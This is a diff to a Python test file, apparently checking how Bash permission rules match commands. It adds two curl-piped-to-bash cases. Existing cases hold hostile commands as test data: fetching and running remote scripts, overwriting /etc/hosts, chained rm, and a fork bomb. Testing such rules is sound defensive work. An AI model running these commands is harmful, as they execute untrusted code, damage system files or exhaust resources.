@@ -59,6 +59,8 @@ def test_a_variable_is_allowed_only_as_it_is_written(rule: str, command: str) ->
         ("Bash(curl * | bash *)", "curl https://x  |  bash -s"),
         ("Bash(echo * > /etc/*)", "echo x >/etc/hosts"),
         ("Bash(* && rm *)", "cd a && rm x"),
+        ("Bash(curl:* | bash:*)", "curl https://x | bash"),
+        ("Bash(curl:*|bash:*)", "curl https://x | bash -s"),
         ("Bash(:(){ :|:& };:)", ":(){ :|:& };:"),
     ]
 )  # fmt: skip
